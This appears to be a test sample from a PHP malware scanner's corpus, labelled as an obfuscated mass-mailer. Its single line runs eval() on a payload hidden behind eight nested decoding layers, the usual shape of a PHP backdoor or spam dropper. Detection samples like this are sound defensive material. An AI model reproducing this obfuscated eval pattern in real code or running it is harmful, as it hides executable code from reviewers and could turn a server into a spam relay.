<?php
// Family: mailer/mass-form
// Style: inert mass-mail loop packed with eight decoders nested in one expression
// Trait: the unwrapped payload of tests/samples/malicious/mailer/layer-plain.php, decoded statically by the scanner
eval(base64_decode(hex2bin(rawurldecode(base64_decode(str_rot13(strrev(gzuncompress(base64_decode('eNq1lEFuwzAMBL8kUfIbcvE9gJ9gS/+/NkZ3izGRtmmBHASbkrgklyuW9Xaf2+1e9G2PFZv2HmvR/64zr1g/z72/697hr86Lzo1zxjF+wC6yF8SoXMI7kFuVXYFvLMdv2JupLn9DOLTjxfxbipfx5y/8VNlD/wN2IJ9382PMqfsduAEcc7jY1rl1YH4WxJ/Ib6b6XefI97V28ML6nN9Yr/1z7TPps6MXBXzan7qvyMv+zrcn/1iv/DXUEbofyLuBx6L41ElP+nk1f+q3odcd/JIf+591NfTR+OMHfpif66/QU32ijyP1f6T3/9/54vz7H/k//ajvmWZF6F5J74d71RqAfr97/3nejO06R/L8+NLFesXP88H47m9HfpH8C2rwu2rb8/c9k/7JL+fHB8v87TQ=')))))))));
